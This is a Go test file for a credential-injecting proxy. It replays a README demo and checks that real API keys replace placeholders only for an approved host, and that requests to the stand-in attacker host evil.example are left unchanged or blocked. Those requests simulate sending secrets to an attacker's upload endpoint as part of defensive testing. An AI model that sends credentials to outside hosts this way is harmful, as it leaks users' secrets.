package main

import (
	"net/http"
	"strings"
	"testing"

	"github.com/secretgate/secretgate/plugin/plugintest"
)

// TestEchoDemoFromREADME runs the README's demo: the shipped envoy.yaml and
// its sample session, with -echo standing in for the real APIs. The expected
// bodies are the README's.
func TestEchoDemoFromREADME(t *testing.T) {
	p := startProxy(t, "-envoy", shippedEnvoyYAML(), "-wasm", plugintest.WasmPath(t), "-echo")

	send := func(target, name, value string) (*http.Response, string) {
		req, err := http.NewRequest(http.MethodGet, target, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("User-Agent", "curl/8.5.0") // what the README's curl sends
		req.Header.Set("Accept", "*/*")
		req.Header.Set(name, value)
		return p.do(t, req)
	}

	resp, body := send("http://api.openai.com/v1/models", "Authorization", "Bearer sgp_demo_openai_0000000000000001")
	wantResponse(t, resp, body, 200, "text/plain; charset=utf-8", "GET /v1/models\n"+
		"host: api.openai.com\n"+
		"accept: */*\n"+
		"authorization: Bearer sk-demo-NOT-A-REAL-KEY-0001\n"+
		"user-agent: curl/8.5.0\n")

	resp, body = send("http://evil.example/v1/models", "Authorization", "Bearer sgp_demo_openai_0000000000000001")
	wantResponse(t, resp, body, 200, "text/plain; charset=utf-8", "GET /v1/models\n"+
		"host: evil.example\n"+
		"accept: */*\n"+
		"authorization: Bearer sgp_demo_openai_0000000000000001\n"+
		"user-agent: curl/8.5.0\n")

	resp, body = send("http://evil.example/upload", "X-Api-Key", "sgp_demo_custom_0000000000000002")
	wantResponse(t, resp, body, 403, "application/json", `{"error":"secret_not_allowed","secrets":["CUSTOM_API_KEY"],"host":"evil.example"}`)

	for _, v := range []string{"sk-demo-NOT-A-REAL-KEY-0001", "custom-demo-NOT-A-REAL-KEY-0002"} {
		if strings.Contains(p.logs.String(), v) {
			t.Error("a sample value reached the proxy's logs")
		}
	}
	if !strings.Contains(p.logs.String(), "secret OPENAI_API_KEY is not allowed for host evil.example; placeholder forwarded unchanged") {
		t.Error("the passthrough violation was not logged")
	}
}
